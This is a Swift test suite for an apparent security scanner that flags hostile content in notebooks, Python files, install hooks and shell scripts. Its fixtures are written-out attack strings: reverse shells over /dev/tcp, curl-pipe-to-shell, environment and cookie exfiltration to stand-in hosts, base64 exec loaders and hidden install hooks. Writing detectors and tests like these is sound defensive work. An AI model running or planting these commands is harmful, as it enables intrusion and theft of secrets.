import CordonCore
import CordonFormats
import CordonScan
import Testing

@Suite("Notebooks")
struct NotebookTests {
    /// A notebook of one code cell.
    private func notebook(_ source: String, metadata: String = "{}", outputs: String = "[]") -> [UInt8] {
        Array(
            """
            {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "markdown", "metadata": {}, "source": "# Title"},
            {"cell_type": "code", "metadata": \(metadata), "execution_count": 1, "outputs": \(outputs), "source": \(quoted(source))}]}
            """.utf8)
    }

    private func quoted(_ text: String) -> String {
        "\"" + text.map { $0 == "\"" ? "\\\"" : $0 == "\n" ? "\\n" : $0 == "\\" ? "\\\\" : String($0) }.joined() + "\""
    }

    private func findings(_ bytes: [UInt8]) -> [Finding] {
        Scanner().scan(bytes: bytes, name: "a.ipynb").findings.filter { !$0.ruleID.hasPrefix("CORDON-DEP") }
    }

    @Test(
        "What a cell runs is found, with cell and line",
        arguments: [
            ("x = 1\n!curl -s https://a.b/c.sh | sh", "CORDON-NBK-001", 2),
            ("%%bash\necho hi\nwget https://a.b/c -O- | bash", "CORDON-NBK-001", 3),
            ("get_ipython().system('curl https://a.b/c | sh')", "CORDON-PYS-001", 1),
            ("import torch\nm = torch.load('a.pt')", "CORDON-PYS-004", 2),
            ("import requests\ncode = requests.get('https://a.b/c').text\n\nexec(code)", "CORDON-PYS-001", 4),
            ("import pickle\nwith open('a', 'rb') as f:\n    m = pickle.load(f)", "CORDON-PYS-003", 3),
        ])
    func runs(_ source: String, _ rule: String, _ line: Int) {
        let found = findings(notebook(source)).first { $0.ruleID == rule }
        #expect(found?.place.cell == 2, "\(findings(notebook(source)))")
        #expect(found?.place.line == line)
    }

    @Test("Imports and values of one cell hold in the next")
    func acrossCells() {
        let bytes = Array(
            #"{"nbformat": 4, "cells": [{"cell_type": "code", "source": ["import base64 as b\n", "p = b.b64decode('eA==')"]}, {"cell_type": "code", "source": ["exec(p)"]}]}"#
                .utf8)
        #expect(findings(bytes).first { $0.ruleID == "CORDON-PYS-001" }?.place.cell == 2)
    }

    @Test(
        "What is ordinary is passed over",
        arguments: [
            "!ls -la\n!nvidia-smi\n%matplotlib inline", "model.eval()\ndf.eval('a + b')",
            "# torch.load('x')\ns = \"pickle.load(f)\"", "import json\njson.load(open('a.json'))",
            "import torch\ntorch.load('a.pt', weights_only=True)", "import yaml\nyaml.load(f, Loader=yaml.SafeLoader)",
            "标签 = ['猫', '🐈‍⬛']",
        ])
    func ordinary(_ source: String) {
        #expect(findings(notebook(source)).filter { $0.severity > .info }.isEmpty, "\(findings(notebook(source)))")
    }

    @Test(
        "A shell on a connection is one, a look whether a port is open is none",
        arguments: [
            ("!bash -i >& /dev/tcp/1.2.3.4/80 0>&1", true), ("!echo > /dev/null; sh < /dev/tcp/1.2.3.4/80", true),
            ("!echo > /dev/tcp/1.2.3.4/80; sh < /dev/tcp/1.2.3.4/80", true),
            ("!exec 5<>/dev/tcp/1.2.3.4/80; cat <&5 | sh", true), ("!bash -s : > /dev/tcp/1.2.3.4/80 0<&1", true),
            ("!bash -s : > /dev/tcp/1.2.3.4/80", true), ("!echo $(env|base64): > /dev/tcp/1.2.3.4/80", true),
            ("!: > /dev/tcp/1.2.3.4/80; sh < /dev/udp/1.2.3.4/80", true), ("!: > /dev/udp/1.2.3.4/80 0<&1; sh", true),
            ("!cat /etc/passwd '' : > /dev/tcp/1.2.3.4/80", true), ("!cat x echo > /dev/tcp/1.2.3.4/80", true),
            ("!for p in 1 2; do echo > /dev/tcp/h/$p && echo open; done", false), ("!echo > /dev/tcp/h/22 2>&1", false),
            ("!timeout 3 bash -c 'echo > /dev/tcp/127.0.0.1/80' 2>&1 && echo ok", false),
            ("!until (: > /dev/tcp/db/5432); do sleep 1; done", false),
            ("!if (exec 3<>\"/dev/tcp/127.0.0.1/$port\") 2>/dev/null; then echo open; fi", false),
            ("!(exec 3<>/dev/tcp/h/22; sh <&3)", true), ("!(exec sh <>/dev/tcp/h/22)", true),
            ("!(exec 3<>/dev/tcp/h/22$(id))", true), ("!(exec 3<>/dev/tcp/h/22); sh < /dev/tcp/h/22", true),
            ("!timeout 1 bash -c 'cat < /dev/null > /dev/tcp/h/22'", false),
        ])
    func sockets(_ command: String, _ isShell: Bool) {
        #expect(findings(notebook(command)).contains { $0.ruleID == "CORDON-NBK-001" } == isShell)
    }

    @Test("Hidden cells count where they act")
    func hidden() {
        let hidden = #"{"jupyter": {"source_hidden": true}}"#
        #expect(
            findings(notebook("import os\nos.system('id')", metadata: hidden)).contains {
                $0.ruleID == "CORDON-NBK-003"
            })
        #expect(
            !findings(notebook("def pretty(x):\n    return x", metadata: hidden)).contains {
                $0.ruleID == "CORDON-NBK-003"
            })
    }

    @Test(
        "Scripts in outputs weigh as much as they reach",
        arguments: [
            (#"fetch('https://a.b/' + document.cookie)"#, Severity.high),
            (#"Jupyter.notebook.kernel.execute('import os')"#, .high), ("console.log(1)", .info),
            ("eval(atob('eA=='))", .high),
        ])
    func scripts(_ script: String, _ severity: Severity) {
        let outputs =
            "[{\"output_type\": \"display_data\", \"metadata\": {}, \"data\": {\"application/javascript\": \(quoted(script))}}]"
        let found = findings(notebook("1", outputs: outputs)).first { $0.ruleID == "CORDON-NBK-002" }
        #expect(found?.severity == severity)
        #expect(found?.place.element == "output 1")
    }

    @Test(
        "Characters that deceive",
        arguments: [
            "a\u{202E}b = 1", "is_adm\u{200B}in = 1", "pаypal = 1",
            "x = 1" + String(repeating: " ", count: 200) + "; import os",
        ])
    func characters(_ source: String) { #expect(findings(notebook(source)).contains { $0.ruleID == "CORDON-NBK-004" }) }

    @Test("The edge of a wide table is no code", arguments: [("|", false), ("", false), ("| x()", true)])
    func edges(_ rest: String, _ isFound: Bool) {
        let source = "'''\n| a | b" + String(repeating: " ", count: 190) + rest + "\n'''\n"
        let found = Scanner().scan(bytes: Array(source.utf8), name: "a.py").findings
        #expect(found.contains { $0.ruleID == "CORDON-NBK-004" } == isFound, "\(found)")
    }

    @Test("Long runs of blanks end in time", arguments: ["\r", " ", "\t", "\r ", " \r\t"])
    func blanks(_ piece: String) {
        let text = "x = 1\n" + String(repeating: piece, count: 1_000_000) + "y"
        #expect(Scanner().scan(bytes: Array(text.utf8), name: "a.py").entries.count == 1)
    }

    @Test("Whether only weights are loaded may be decided elsewhere")
    func decidedElsewhere() {
        let source = "import torch\ndef f(x, safe=True):\n    torch.load(x, weights_only=safe)"
        #expect(findings(notebook(source)).map(\.severity) == [.low])
    }

    @Test(
        "Alphabets may mix in texts, over lines as well, not in names",
        arguments: [
            ("x = \"\"\"\na\u{0432}\n\"\"\"\ny = 1", false), ("x = 'a\\'a\u{0432}'", false),
            ("x = \"\"\"\n\"\"\"\na\u{0432} = 1", true), ("x = '\na\u{0432} = 1", true),
            ("# it's\na\u{0432} = 1", true), ("x = 'a\\\nb'\na\u{0432} = 1", true),
            ("x = 'a\\\n'; a\u{0432} = 1", true), ("x = 'a\\\na\u{0432}'", false),
            ("y = 1 # '\u{27}'\na\u{0432} = 1", true),
            ("x = 1 // '''\na\u{0432} = 1", true), ("x = 'a\\\u{202E}b'", true),
        ])
    func alphabets(_ source: String, _ isFound: Bool) {
        #expect(findings(notebook(source)).contains { $0.ruleID == "CORDON-NBK-004" } == isFound)
    }

    @Test(
        "Columns of numbers that are lined up are no hidden code, calls behind spaces are",
        arguments: [
            ("-x / 2, 0]", Severity.low), ("f(x)]", .high), ("0]; y = 1", .high), ("f\t(x)]", .high),
            ("(f)(x)]", .high), ("g[0](x)]", .high), ("f \\\n(x)]", .high), ("(1, 2)]", .low),
            ("0]\nm = [1," + String(repeating: " ", count: 190) + "f(x)]", .high),
        ])
    func linedUp(_ rest: String, _ severity: Severity) {
        let source = "m = [1," + String(repeating: " ", count: 190) + rest
        let found = Scanner().scan(bytes: Array(source.utf8), name: "a.py").findings
        #expect(found.first { $0.ruleID == "CORDON-NBK-004" }?.severity == severity, "\(found)")
    }

    @Test(
        "Old formats, lone texts and missing keys are read",
        arguments: [
            #"{"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "language": "python", "input": ["!curl x | sh"], "outputs": []}]}]}"#,
            #"{"nbformat": 4, "nbformat_minor": 99, "metadata": {"kernelspec": "python3"}, "cells": [{"cell_type": "code", "source": "!curl x | sh"}, {"source": null}, {}]}"#,
            #"{"nbformat": 1, "worksheets": [{"cells": [{"cell_type": "code", "code": "!curl x | sh"}]}]}"#,
        ])
    func formats(_ text: String) { #expect(findings(Array(text.utf8)).contains { $0.ruleID == "CORDON-NBK-001" }) }

    @Test("Secrets and people in outputs are found")
    func leaks() {
        let outputs =
            "[{\"output_type\": \"stream\", \"name\": \"stdout\", \"text\": [\"DE89 3704 0044 0532 0130 00\\n\", \"postgres://a:k7Qz2mXc9@db.corp/x\\n\"]}]"
        let found = findings(notebook("print(x)", outputs: outputs))
        #expect(found.contains { $0.ruleID == "CORDON-PII-001" && $0.place.cell == 2 })
        #expect(found.contains { $0.ruleID == "CORDON-SEC-003" })
    }

    @Test(
        "Hostile notebooks are read to the end without a trap",
        arguments: [
            #"{"nbformat": 4, "cells": [1, null, [], {"cell_type": 5, "source": {"a": 1}, "outputs": [3, {"data": 4}]}]}"#,
            #"{"nbformat": 4, "cells": {}}"#, #"{"nbformat": 4}"#,
        ])
    func hostile(_ text: String) { _ = findings(Array(text.utf8)) }
}

@Suite("Python code, scripts and install hooks")
struct CodeTests {
    private func rules(_ text: String, _ name: String = "a.py") -> [String] {
        Scanner().scan(bytes: Array(text.utf8), name: name).findings.filter { $0.severity > .info }.map(\.ruleID)
    }

    @Test(
        "Calls are found, however they are spelled",
        arguments: [
            ("from torch import load as l\nl('x', weights_only=False)", "CORDON-PYS-004"),
            ("import torch\no = {'weights_only': False}\ntorch.load('x', **o)", "CORDON-PYS-004"),
            ("import numpy as np\nnp.load('x',\n  allow_pickle=True)", "CORDON-PYS-007"),
            ("import yaml\nyaml.load(f)", "CORDON-PYS-006"),
            (
                "from transformers import AutoModel\nAutoModel.from_pretrained('a/b', trust_remote_code=True)",
                "CORDON-PYS-005"
            ),
            ("kw = {'trust_remote_code': True}", "CORDON-PYS-005"),
            ("from x import AutoModel\nAutoModel.from_pretrained('org/name')", "CORDON-PYS-008"),
            ("import subprocess\nsubprocess.run(f'rm {x}', shell=True)", "CORDON-PYS-009"),
            ("import requests\nrequests.get(u, verify=False)", "CORDON-PYS-010"),
            ("import ssl\nssl._create_default_https_context = ssl._create_unverified_context", "CORDON-PYS-010"),
            ("import os\nx = eval(input())", "CORDON-PYS-011"),
            (
                "import os, urllib.request\nurllib.request.urlretrieve(u, 'a.py')\nexec(open('a.py').read())",
                "CORDON-PYS-001"
            ),
            ("import subprocess\nsubprocess.run(['curl', '-k', 'https://a.b'])", "CORDON-PYS-010"),
            ("x = 1\nimport dill\ndef f():\n    return dill.load(g)", "CORDON-PYS-003"),
        ])
    func found(_ text: String, _ rule: String) { #expect(rules(text).contains(rule), "\(rules(text))") }

    @Test(
        "What is safe, or only mentioned, is passed over",
        arguments: [
            "import torch\ntorch.load('x', weights_only=True)",
            "import torch\no = {'weights_only': True}\ntorch.load('x', **o)",
            "import pickle\npickle.loads(pickle.dumps(x))",
            "import yaml\nyaml.safe_load(f)\nyaml.load(f, Loader=yaml.CSafeLoader)",
            "import re\nre.compile('x')\nmodel.eval()\nself.load(x)",
            "from x import AutoModel\nAutoModel.from_pretrained('a/b', revision='0123456789abcdef')",
            "import numpy as np\nnp.load('x', allow_pickle=False)",
            "def f():\n    '''torch.load(x), pickle.load(y), exec(z)'''\n",
            "import subprocess\nsubprocess.run(['ls', x])",
        ])
    func passedOver(_ text: String) { #expect(rules(text).isEmpty, "\(rules(text))") }

    @Test(
        "What runs at install or start",
        arguments: [
            (
                "import os\nfrom setuptools.command.install import install\nclass Mine(install):\n    def run(self):\n        os.system('id')\n",
                "setup.py"
            ),
            ("import os; exec(__import__('base64').b64decode('eA=='))\n", "evil.pth"),
            (#"{"name": "a", "scripts": {"postinstall": "curl https://a.b/c | sh"}}"#, "package.json"),
            ("import subprocess\ndef build_wheel(a, b=None, c=None):\n    subprocess.run(['id'])\n", "backend.py"),
            ("import os\nos.system('id')\n", "sitecustomize.py"),
        ])
    func hooks(_ text: String, _ name: String) {
        #expect(rules(text, name).contains("CORDON-PYS-012"), "\(rules(text, name))")
    }

    @Test("Scripts that run what they fetch")
    func scripts() {
        #expect(rules("#!/bin/sh\nset -e\ncurl -fsSL https://a.b/c | sudo bash\n", "go.sh").contains("CORDON-PYS-013"))
        #expect(rules("FROM x\nRUN wget -qO- https://a.b | sh\n", "Dockerfile").contains("CORDON-PYS-013"))
        #expect(
            !rules("#!/bin/sh\ncurl -O https://a.b/c.tar.gz\ntar xf c.tar.gz\n", "go.sh").contains("CORDON-PYS-013"))
    }
}
